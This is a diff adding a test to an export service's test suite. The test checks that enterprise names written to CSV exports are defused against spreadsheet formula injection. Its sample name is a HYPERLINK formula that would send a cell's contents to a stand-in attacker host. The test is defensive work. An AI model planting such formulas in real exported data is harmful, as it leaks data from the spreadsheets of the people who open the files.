@@ -180,6 +180,25 @@ describe('daily exports', () => {
     expect((await get('/2026-03-02', tax)).json()).toMatchObject({ department: 'LTAX', files: manifest.files });
   });
 
+  it("defuses formulas in the CSV files: a renamed enterprise cannot run in a bank's spreadsheet", async () => {
+    const evil = '=HYPERLINK("http://evil.example/?leak="&B2,"x")';
+    const admin = await t.loginAdmin();
+    const renamed = await t.request({
+      method: 'PATCH',
+      url: `/api/v1/enterprises/${CODES.beijing}`,
+      token: admin,
+      body: { name: evil },
+    });
+    expect(renamed.statusCode).toBe(200);
+    await t.app.get(ExportsService).writeDay('2026-03-02');
+    const res = await get('/2026-03-02/grades.csv.gz');
+    const grades = parse(gunzipSync(res.rawPayload).toString('utf8'), { columns: true }) as Record<string, string>[];
+    // The leading ' makes a spreadsheet show the cell as text; the NDJSON keeps the name as it is.
+    expect(grades.find((g) => g.uscc === CODES.beijing)).toMatchObject({ name: `'${evil}`, score: '95' });
+    const ndjson = gunzipSync((await get('/2026-03-02/grades.ndjson.gz')).rawPayload).toString('utf8');
+    expect(ndjson).toContain(JSON.stringify(evil));
+  });
+
   it('serves only the files a manifest lists, to institution keys', async () => {
     expect((await get('/2026-03-01')).statusCode).toBe(404);
     expect((await get('/not-a-date')).statusCode).toBe(404);
